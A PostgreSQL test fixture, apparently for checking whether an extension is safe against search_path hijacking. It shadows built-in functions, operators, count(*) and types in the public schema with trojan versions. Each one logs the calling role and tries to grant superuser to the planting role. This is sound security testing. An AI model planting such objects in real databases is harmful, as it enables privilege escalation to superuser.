-- Objects a role that owns the database (or may create in a schema on someone's search_path)
-- plants under the names of built-ins. Each records who called it in public.called and tries
-- to make its owner a superuser: any row whose run_as is not the planting role means a
-- statement of the extension ran planted code with someone else's rights.
-- :'planter' is the planting role; objects go into the current schema (public).
CREATE TABLE public.called (kind text, run_as text);
GRANT INSERT, SELECT ON public.called TO PUBLIC;
CREATE FUNCTION public.evil(kind text) RETURNS boolean LANGUAGE plpgsql AS $evil$
BEGIN
    INSERT INTO public.called VALUES (kind, current_user);
    BEGIN
        EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', '@PLANTER@');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN true;
END
$evil$;
GRANT EXECUTE ON FUNCTION public.evil(text) TO PUBLIC;

CREATE FUNCTION public.now() RETURNS timestamptz LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('now()'); RETURN pg_catalog.now(); END$$;
CREATE FUNCTION public.substr(text, integer, integer) RETURNS text LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('substr()'); RETURN pg_catalog.substr($1, $2, $3); END$$;
CREATE FUNCTION public.unnest(anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('unnest()'); RETURN QUERY SELECT * FROM pg_catalog.unnest($1); END$$;
CREATE FUNCTION public.to_timestamp(double precision) RETURNS timestamptz LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('to_timestamp()'); RETURN pg_catalog.to_timestamp($1); END$$;
CREATE FUNCTION public.quote_ident(text) RETURNS text LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('quote_ident()'); RETURN pg_catalog.quote_ident($1); END$$;
CREATE FUNCTION public.format_type(oid, integer) RETURNS text LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('format_type()'); RETURN pg_catalog.format_type($1, $2); END$$;
CREATE FUNCTION public.parse_ident(text, boolean DEFAULT true) RETURNS text[] LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('parse_ident()'); RETURN pg_catalog.parse_ident($1, $2); END$$;
CREATE FUNCTION public.set_config(text, text, boolean) RETURNS text LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('set_config()'); RETURN pg_catalog.set_config($1, $2, $3); END$$;
CREATE FUNCTION public.current_setting(text) RETURNS text LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('current_setting()'); RETURN pg_catalog.current_setting($1); END$$;
CREATE FUNCTION public.pg_get_expr(pg_node_tree, oid) RETURNS text LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('pg_get_expr()'); RETURN pg_catalog.pg_get_expr($1, $2); END$$;
CREATE FUNCTION public.jsonb_populate_record(anyelement, jsonb) RETURNS anyelement LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('jsonb_populate_record()'); RETURN pg_catalog.jsonb_populate_record($1, $2); END$$;
CREATE FUNCTION public.count_step(bigint) RETURNS bigint LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('count(*)'); RETURN $1 + 1; END$$;
CREATE AGGREGATE public.count(*) (SFUNC = public.count_step, STYPE = bigint, INITCOND = '0');

CREATE FUNCTION public.text_eq(text, text) RETURNS boolean LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('text = text'); RETURN pg_catalog.texteq($1, $2); END$$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.text_eq);
CREATE FUNCTION public.text_ne(text, text) RETURNS boolean LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('text <> text'); RETURN pg_catalog.textne($1, $2); END$$;
CREATE OPERATOR public.<> (LEFTARG = text, RIGHTARG = text, FUNCTION = public.text_ne);
CREATE FUNCTION public.int8_eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('bigint = bigint'); RETURN pg_catalog.int8eq($1, $2); END$$;
CREATE OPERATOR public.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = public.int8_eq);
CREATE FUNCTION public.oid_eq(oid, oid) RETURNS boolean LANGUAGE plpgsql AS
    $$BEGIN PERFORM public.evil('oid = oid'); RETURN pg_catalog.oideq($1, $2); END$$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.oid_eq);

-- Types under built-in names: a cast to them would run the domain's check.
CREATE DOMAIN public.text AS pg_catalog.text CHECK (public.evil('cast to text'));
CREATE DOMAIN public.oid AS pg_catalog.oid CHECK (public.evil('cast to oid'));
CREATE DOMAIN public.regclass AS pg_catalog.regclass CHECK (public.evil('cast to regclass'));
CREATE DOMAIN public.interval AS pg_catalog.interval CHECK (public.evil('cast to interval'));
